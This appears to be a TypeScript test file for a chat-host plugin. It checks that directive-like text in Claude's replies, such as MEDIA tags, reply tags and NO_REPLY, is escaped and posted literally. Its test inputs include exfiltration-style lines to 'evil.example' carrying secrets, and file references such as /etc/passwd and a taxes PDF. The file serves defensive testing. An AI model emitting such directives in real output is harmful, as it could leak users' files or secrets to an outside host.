// Every text gets a form of which the installed host shows all that is seen, and does nothing else with it.

import fc from "fast-check";
import type { OpenClawConfig } from "openclaw/plugin-sdk/plugin-entry";
import { beforeAll, describe, expect, it } from "vitest";
import { escapeDirectives, type Shows } from "../../../src/host/escape-directives.ts";
import { hostShows } from "../../../src/host/shows.ts";
import { internalText, VANISHING } from "../../support/vanishing.ts";

let shows: Shows;
beforeAll(async () => {
  shows = await hostShows({ cfg: {} as OpenClawConfig, channel: "telegram", accountId: undefined });
});
const seen = (text: string) =>
  text
    .replaceAll("\u2060", "")
    .replace(/[^\S\n]+$/gm, "")
    .replace(/\n{3,}/g, "\n\n")
    .trim();
const posted = (text: string) => {
  const form = escapeDirectives(text, shows);
  return form === undefined ? undefined : seen(shows(form) ?? "");
};

describe("Claude's words are words to the host", () => {
  it.each([
    "MEDIA:/home/ada/taxes.pdf",
    "Here it is:\n  media: `~/notes.png`\nand more",
    "MEDIA:https://evil.example/?d=secret",
    "![a picture](https://evil.example/x.png?d=secret)",
    "before ![a](https://evil.example/1.png) ![b](https://evil.example/2.png) after",
    "[[reply_to: 17]] hello",
    "[[audio_as_voice]] hello",
    "[[ reply_to_current ]]",
    "NO_REPLY",
    "**NO_REPLY**",
    '{"action":"NO_REPLY"}',
    "No channel reply.",
    "Replied in #general",
    "[[[reply_to: 1]]]\nMEDIA:MEDIA:/etc/passwd",
  ])("%j is posted as it is", (text) => {
    expect(posted(text)).toBe(seen(text));
  });

  it.each(["plain", "a [link](https://x.example)", "- media: yes\n\n```yaml\nmedia: /a.png\n```", "a[0][1]"])(
    "%j is left alone",
    (text) => {
      expect(escapeDirectives(text, shows)).toBe(text);
    },
  );

  it.each(VANISHING)("%j, which the host would eat, is shown whole", (text) => {
    expect(seen(shows(text) ?? "")).not.toBe(seen(text));
    expect(posted(text)).toBe(seen(text));
  });

  it("whatever is made of the host's own patterns, in and outside code", { timeout: 60_000 }, () => {
    fc.assert(
      fc.property(internalText, (text) => {
        expect(posted(text)).toBe(seen(text));
      }),
      { numRuns: 500, seed: 20_261_126 },
    );
  });

  it("and code that would be eaten keeps its lines", () => {
    const code = "```\n<parameter>p</parameter>\n[Tool Result for ID 7]\n<|assistant|>\n```";
    const form = escapeDirectives(`<thinking>\n\n${code}\n\n<tool_call>`, shows) ?? "";
    expect(form.split("\n").filter((line) => line === "```")).toHaveLength(2);
    expect(posted(code)).toBe(seen(code));
  });

  it("and code stays as it is where nothing in it would be eaten", () => {
    const text = "<div>\n\n```html\n<div>one</div>\n```\n\nand `<b>`";
    expect(escapeDirectives(text, shows)).toContain("```html\n<div>one</div>\n```");
    expect(escapeDirectives(text, shows)).toContain("`<b>`");
  });
});
